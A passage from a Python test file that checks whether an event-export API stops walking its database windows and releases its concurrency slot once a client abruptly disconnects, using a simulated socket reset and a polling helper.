                gone.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


@contextlib.contextmanager
def abandoned(dsn: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[ApiServer, Counting]]:
    """The API over a store whose export that keeps nothing walks 200 slow windows. The block starts such an
    export and leaves it; after the block its walk must stop well before its end and give its slot back."""
    client = connect(dsn)
    migrate(client)
    Writer(client).insert_events([event("events/t", {"event_id": f"t{i}"}, MARCH_MS + i) for i in range(20_000)])
    monkeypatch.setattr(export_api, "Export", functools.partial(Export, window_rows=100))  # 200 windows
    reader = Sparse(connect(dsn))
    with served(reader) as server, httpx.Client(base_url=server.url, headers=AUTH, timeout=30) as api:
        yield server, reader
        wait_until(lambda: _settled(reader), timeout=3, what="the walk to stop after its client left")
        assert reader.exports < 100, f"{reader.exports} window queries: the walk went on after its client left"
        wait_until(lambda: shares_free(api), timeout=3, what="the export's slot to be given back")


def _settled(reader: Counting) -> bool:
    before = reader.exports
    time.sleep(0.3)
    return reader.exports == before
